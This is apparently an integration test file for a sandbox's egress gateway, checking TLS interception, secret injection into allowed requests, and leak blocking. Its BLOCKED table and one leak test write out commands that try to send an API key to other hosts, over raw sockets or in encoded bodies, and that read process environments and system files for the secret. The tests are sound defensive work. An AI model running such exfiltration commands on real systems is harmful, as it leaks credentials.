// TLS that the gateway opens, and secrets that it puts in: with the clients that people use, from inside a real VM.
import assert from 'node:assert/strict';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { NetworkPolicy, Sandbox, Secret } from '../../src/sdk/index.ts';
import { clientsImage } from '../fixtures/images.ts';
import { TestDaemon } from './daemon-harness.ts';
import { BEARER, CLIENTS, FETCHERS, hostOf } from './network-clients.ts';
import { MIRRORED } from './network-mirror.ts';
import { NetworkWorld, SECRET_VALUES as VALUES, WORLD } from './network-world.ts';

/** Debian with curl, wget, git, Python, requests, pip and Node. */
const IMAGE = 'clients.local/debian:test';
const SECURE = 'https://secure.example.com:8443';
const ELSEWHERE = 'https://elsewhere.example.com:8443';

const SANDBOX = `apiVersion: bulkhead.dev/v1alpha1
kind: Sandbox
metadata: {name: box}
spec:
  image: "${IMAGE}"
  resources: {memory: 384Mi}
  secrets:
    - env: API_KEY
      valueFrom: {secretKeyRef: {name: keys, key: token}}
      allowHosts: [secure.example.com]
      injectInto: [Headers, Query]
    - env: BODY_KEY
      valueFrom: {secretKeyRef: {name: keys, key: token}}
      allowHosts: [secure.example.com]
      injectInto: [Body]
`;

const LIMITED = { timeout: 600_000 };

let world: NetworkWorld;
let daemon: TestDaemon;

before(async () => {
  world = await NetworkWorld.open();
  daemon = await TestDaemon.start({ prefix: world.prefix });
  await daemon.ok('image', 'load', await clientsImage(), '--reference', IMAGE);
  await setSecret(VALUES[0]);
  await daemon.write(
    'authority.yaml',
    JSON.stringify({
      apiVersion: 'v1',
      kind: 'ConfigMap',
      metadata: { name: 'servers' },
      data: { 'ca.crt': world.authority },
    }),
  );
  await setTls('intercept: true');
  await daemon.write('box.yaml', SANDBOX);
  await daemon.waitReady('box');
});

after(async () => {
  await daemon?.[Symbol.asyncDispose]();
  await world?.[Symbol.asyncDispose]();
});

function setSecret(value: string | undefined): Promise<void> {
  const data = value === undefined ? {} : { token: Buffer.from(value).toString('base64') };
  const secret = { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'keys' }, data };
  return daemon.write('keys.yaml', JSON.stringify(secret));
}

let tlsNow = '';

async function setTls(tls: string): Promise<void> {
  if (tls === tlsNow) return;
  tlsNow = tls;
  const generation = await policyField('{.metadata.generation}');
  await daemon.write(
    'policy.yaml',
    `apiVersion: bulkhead.dev/v1alpha1
kind: NetworkPolicy
metadata: {name: egress}
spec:
  dns: {nameservers: ["${WORLD.dns}"]}
  tls:
    interceptedPorts: [8443]
    upstreamCAs: [{configMapKeyRef: {name: servers, key: ca.crt}}]
    ${tls}
`,
  );
  while ((await policyField('{.metadata.generation}')) === generation);
  await daemon.ok('wait', 'networkpolicy/egress', '--for=condition=Programmed', '--timeout', '60s');
}

async function policyField(path: string): Promise<string> {
  return (await daemon.cli('get', 'networkpolicy', 'egress', '-o', `jsonpath=${path}`)).stdout;
}

async function sh(script: string): Promise<{ code: number; stdout: string; stderr: string }> {
  return daemon.cli('exec', 'box', '--', 'timeout', '180', '/bin/sh', '-c', script);
}

interface Seen {
  httpVersion: string;
  url: string;
  headers: Record<string, string>;
  body: string;
}

/** What the server was asked, as it tells it. */
async function seen(script: string): Promise<Seen> {
  const { stdout, stderr } = await sh(script);
  assert.match(stdout, /^\{/, `${script}\n${stdout}\n${stderr}`);
  return JSON.parse(stdout) as Seen;
}

for (const [client, command] of Object.entries(CLIENTS)) {
  test(`${client} works unchanged, and the server gets the value of the secret`, LIMITED, async () => {
    const request = await seen(command(`${SECURE}/a?b=c`));
    assert.equal(request.headers.authorization, `Bearer ${VALUES[0]}`);
    assert.equal(request.url, '/a?b=c');
    assert.equal(request.httpVersion, client.includes('HTTP/2') ? '2.0' : '1.1');
  });
}

for (const [client, command] of Object.entries(FETCHERS)) {
  test(`${client} works unchanged, and signs in with the value of the secret`, LIMITED, async () => {
    const { stdout, stderr } = await sh(command(hostOf(SECURE), '/private', 'user:$API_KEY@'));
    assert.match(stdout, new RegExp(`^${MIRRORED}$`, 'm'), `${stdout}${stderr}`);
  });
}

test(
  'a bare environment trusts the gateway too, where programs read the bundle of the system',
  LIMITED,
  async () => {
    const { stdout } = await sh(`env -i curl -sS ${SECURE}/`);
    assert.match(stdout, /"httpVersion"/);
    const issuer = await sh(`curl -sv ${ELSEWHERE}/ 2>&1 | grep -i issuer:`);
    assert.match(issuer.stdout, /Bulkhead interception/);
  },
);

test('Basic authentication, the query and a body carry the value; uploads stay whole', LIMITED, async () => {
  const basic = await seen(`curl -sS -u "user:$API_KEY" ${SECURE}/`);
  const pair = Buffer.from(`user:${VALUES[0]}`).toString('base64');
  assert.equal(basic.headers.authorization, `Basic ${pair}`);
  const query = await seen(`curl -sS "${SECURE}/path?key=$API_KEY"`);
  assert.equal(query.url, `/path?key=${encodeURIComponent(VALUES[0])}`);
  for (const version of ['--http1.1', '--http2', '--http1.1 -H "Transfer-Encoding: chunked"']) {
    const body = await seen(`curl -sS ${version} --data "key=$BODY_KEY&more" ${SECURE}/`);
    assert.equal(body.body, `key=${VALUES[0]}&more`, version);
    const sum = await sh(
      `head -c 3000000 /dev/urandom | base64 -w0 >/tmp/big; curl -sS ${version} --data-binary @/tmp/big ${SECURE}/ | python3 -c 'import sys, json; print(json.load(sys.stdin)["body"] == open("/tmp/big").read())'`,
    );
    assert.equal(sum.stdout.trim(), 'True', `${version} ${sum.stderr}`);
  }
});

/** Each tries to get a placeholder out to where its value may not go, or the value to where it must not. */
const BLOCKED: Readonly<Record<string, string>> = {
  'to another host': `curl -sS --http1.1 ${BEARER} ${ELSEWHERE}/`,
  'to another host over HTTP/2': `curl -sS --http2 ${BEARER} ${ELSEWHERE}/`,
  'in clear text': `curl -sS ${BEARER} http://secure.example.com/`,
  'over a bare connection': `(printf '%s\\n' "$API_KEY"; sleep 2) | python3 -c 'import socket, sys; s = socket.create_connection(("secure.example.com", 22), 5); s.sendall(sys.stdin.buffer.read()); s.settimeout(5); print(s.recv(100))'`,
  'in a path': `curl -sS "${SECURE}/$API_KEY"`,
  'in a body that it is not for': `curl -sS --data "$API_KEY" ${SECURE}/`,
  'in a body in percent-encoding': `curl -sS --data "$(printf '%s' "$API_KEY" | od -An -tx1 -v | tr -d '\\n' | sed 's/ /%/g')" ${SECURE}/`,
  'in a body as base64': `curl -sS --data "x$(printf 'a:%s' "$API_KEY" | base64 -w0)" ${SECURE}/`,
  'in a body over HTTP/2, in pieces': `python3 -c 'import os; k = os.environ["API_KEY"]; open("/tmp/split", "w").write("x" * 16370 + k + "y" * 70000)'; curl -sS --http2 --data-binary @/tmp/split ${SECURE}/`,
  'to an allowed host that another connection is for': `curl -sS --http1.1 ${BEARER} -H 'Host: secure.example.com' ${ELSEWHERE}/`,
  'to another host within a connection that is for the allowed one': `curl -sS --http1.1 ${BEARER} -H 'Host: elsewhere.example.com' ${SECURE}/`,
  'to another host within HTTP/2 that is for the allowed one': `curl -sS --http2 ${BEARER} -H 'Host: elsewhere.example.com' ${SECURE}/`,
  'by an address in place of the name': `curl -sSk ${BEARER} https://${WORLD.allowed}:8443/ -H 'Host: secure.example.com'`,
};

for (const [way, command] of Object.entries(BLOCKED)) {
  test(`neither value nor placeholder leaves ${way}`, LIMITED, async () => {
    const { stdout, stderr } = await sh(command);
    assert.doesNotMatch(stdout, /"httpVersion"|reached/, stderr);
    const log = await daemon.ok('network', 'log', 'box');
    assert.match(
      log,
      /placeholder of secret (API|BODY)_KEY was sent where its value may not go|Denied|Refused/,
    );
  });
}

test('a placeholder that was sent elsewhere is told as an event', LIMITED, async () => {
  for (;;) {
    const events = await daemon.ok('events', 'sandbox/box');
    if (/EgressDenied.*placeholder of secret API_KEY/.test(events)) return;
  }
});

test(
  'a server that nobody vouches for is refused, and a client that pins certificates is told of',
  LIMITED,
  async () => {
    const untrusted = await sh('curl -sSk https://untrusted.example.com:8443/');
    assert.notEqual(untrusted.code, 0, untrusted.stdout);
    await sh(
      `cp /etc/ssl/certs/ca-certificates.crt /tmp/ca.crt; printf '' >/tmp/none.crt; curl -sS --cacert /etc/ssl/certs/ca-bundle-of-nobody ${ELSEWHERE}/; python3 -c 'import ssl, socket; c = ssl.create_default_context(cadata=open("/usr/share/ca-certificates/mozilla/ISRG_Root_X1.crt").read()); c.wrap_socket(socket.create_connection(("elsewhere.example.com", 8443)), server_hostname="elsewhere.example.com")'`,
    );
    const log = await daemon.ok('network', 'log', 'box');
    assert.match(log, /TLS for untrusted\.example\.com is not trusted/);
    assert.match(log, /client refused the gateway's certificate for elsewhere\.example\.com/);
  },
);

test('another protocol that the server agrees to passes', LIMITED, async () => {
  const script = `import ssl, socket
s = ssl.create_default_context().wrap_socket(socket.create_connection(("secure.example.com", 8443)), server_hostname="secure.example.com")
s.sendall(b"GET / HTTP/1.1\\r\\nHost: secure.example.com:8443\\r\\nConnection: Upgrade\\r\\nUpgrade: echo\\r\\n\\r\\n")
print(s.recv(1000).split(b"\\r\\n")[0].decode())
s.sendall(bytes(range(256)))
print(s.recv(1000) == bytes(range(256)))`;
  const { stdout, stderr } = await sh(`python3 -c '${script}'`);
  assert.equal(stdout, 'HTTP/1.1 101 Switching Protocols\nTrue\n', stderr);
});

test('neither gateway nor daemon nor VM leaves a core dump behind', async () => {
  const { status } = await daemon.get('box');
  for (const pid of [daemon.gatewayPid, daemon.pid, status.vm?.pid]) {
    const limits = readFileSync(`/proc/${pid}/limits`, 'utf8');
    assert.match(limits, /^Max core file size +0 +0 /m, `${pid}`);
  }
});

test('the value is nowhere but in the Secret itself and in memory', LIMITED, async () => {
  const [value] = VALUES;
  const forms = [
    value,
    encodeURIComponent(value),
    Buffer.from(value).toString('base64'),
    Buffer.from(`user:${value}`).toString('base64'),
    Buffer.from(value).toString('hex'),
    JSON.stringify(value).slice(1, -1),
  ];
  const inGuest = await sh(
    `env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; grep -rs '${value}' /etc /run /tmp /var/log`,
  );
  const told: Readonly<Record<string, string>> = {
    guest: inGuest.stdout,
    object: await daemon.ok('get', 'sandbox', 'box', '-o', 'yaml'),
    description: await daemon.ok('describe', 'sandbox', 'box'),
    events: await daemon.ok('events'),
    policy: await daemon.ok('get', 'networkpolicy', '-o', 'yaml'),
    figures: await daemon.ok('top'),
    'network log': await daemon.ok('network', 'log', 'box'),
    "daemon's log": daemon.log(),
    ...processWords((await daemon.get('box')).status.vm?.pid ?? 0),
    ...stateFiles(),
  };
  for (const [where, text] of Object.entries(told))
    for (const form of forms) assert.equal(text.includes(form), false, where);
  assert.match(inGuest.stdout, /^API_KEY=bulkheadsecret[0-9a-f]{32}$/m);
});

/** Command lines and environments of the daemon, its gateway and a VM. */
function processWords(vm: number): Record<string, string> {
  const files = [daemon.pid, daemon.gatewayPid, vm].flatMap((pid) =>
    ['cmdline', 'environ'].map((file) => `/proc/${pid}/${file}`),
  );
  return Object.fromEntries(files.map((path) => [path, readFileSync(path, 'latin1')]));
}

/** Where a Secret is an object as any other. */
const OBJECTS = /^(?:store\.db|folder-inventory)/;

/** What the daemon keeps beside its objects and disks. */
function stateFiles(): Record<string, string> {
  const files = readdirSync(daemon.stateDir, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile() && !OBJECTS.test(entry.name))
    .map((entry) => join(entry.parentPath, entry.name))
    .filter((path) => statSync(path).size < 1_048_576);
  return Object.fromEntries(files.map((path) => [path, readFileSync(path, 'latin1')]));
}

test('a secret that changes is used from then on, and one that is gone leaves nowhere', LIMITED, async () => {
  await setSecret(VALUES[1]);
  const ask = `curl -sS ${BEARER} ${SECURE}/`;
  for (;;) {
    const { headers } = await seen(ask);
    if (headers.authorization === `Bearer ${VALUES[1]}`) break;
    assert.equal(headers.authorization, `Bearer ${VALUES[0]}`);
  }
  await setSecret(undefined);
  for (;;) {
    const { stdout } = await sh(ask);
    if (!stdout.startsWith('{')) break;
    assert.equal((JSON.parse(stdout) as Seen).headers.authorization, `Bearer ${VALUES[1]}`);
  }
  await setSecret(VALUES[1]);
});

test(
  'what a policy bypasses, and what none asks for, keeps its own certificate; hosts of secrets are opened all the same',
  LIMITED,
  async () => {
    const issuer = async (url: string) => (await sh(`curl -svk ${url}/ 2>&1 | grep -i 'issuer:'`)).stdout;
    for (const tls of ['bypass: ["*.example.com"]', 'intercept: false']) {
      await setTls(tls.startsWith('bypass') ? `intercept: true\n    ${tls}` : tls);
      assert.match(await issuer(ELSEWHERE), /Bulkhead interception tests/, tls);
      assert.doesNotMatch(await issuer(SECURE), /Bulkhead interception tests/, tls);
    }
  },
);

test('all clients work unchanged where no TLS is opened, and no value is with them', LIMITED, async () => {
  // No TLS is opened but that of hosts of secrets. The guest is to trust the servers themselves.
  await setTls('intercept: false');
  const trust = await sh(
    `cat >/usr/local/share/ca-certificates/servers.crt <<'END'\n${world.authority}\nEND\nupdate-ca-certificates`,
  );
  assert.equal(trust.code, 0, trust.stderr);
  for (const [client, command] of Object.entries(CLIENTS)) {
    const { headers } = await seen(command(`${ELSEWHERE}/`));
    assert.match(headers.authorization ?? '', /^Bearer bulkheadsecret[0-9a-f]{32}$/, client);
  }
  for (const [client, command] of Object.entries(FETCHERS)) {
    const { stdout, stderr } = await sh(command(hostOf(ELSEWHERE), '/open', ''));
    assert.match(stdout, new RegExp(`^${MIRRORED}$`, 'm'), `${client} ${stderr}`);
  }
});

test('a program gives a sandbox its network and its secrets, which go with it', LIMITED, async () => {
  const names = async (kind: string) =>
    (await daemon.ok('get', kind, '-o', 'name')).split('\n').filter(Boolean);
  const before = [await names('networkpolicy'), await names('secret'), await names('configmap')];
  const sandbox = await Sandbox.create(
    {
      ...{ image: IMAGE, memoryMib: 384 },
      network: {
        ...NetworkPolicy.publicOnly(),
        rules: [{ action: 'deny', destination: 'elsewhere.example.com' }],
        tls: { interceptedPorts: [8443], upstreamCaCert: [world.authority] },
      },
      secrets: [Secret.env('TOKEN', { value: 'of-a-program', allowHosts: ['secure.example.com'] })],
    },
    { socketPath: daemon.socket },
  );
  const ask = (url: string) => sandbox.shell(`timeout 60 curl -sS -H "Authorization: Bearer $TOKEN" ${url}/`);
  const { headers } = JSON.parse((await ask(SECURE)).stdout()) as Seen;
  assert.equal(headers.authorization, 'Bearer of-a-program');
  assert.notEqual((await ask(ELSEWHERE)).code, 0);
  await sandbox.stop();
  await sandbox.removePersisted();
  for (;;) {
    const after = [await names('networkpolicy'), await names('secret'), await names('configmap')];
    if (JSON.stringify(after) === JSON.stringify(before)) return;
  }
});
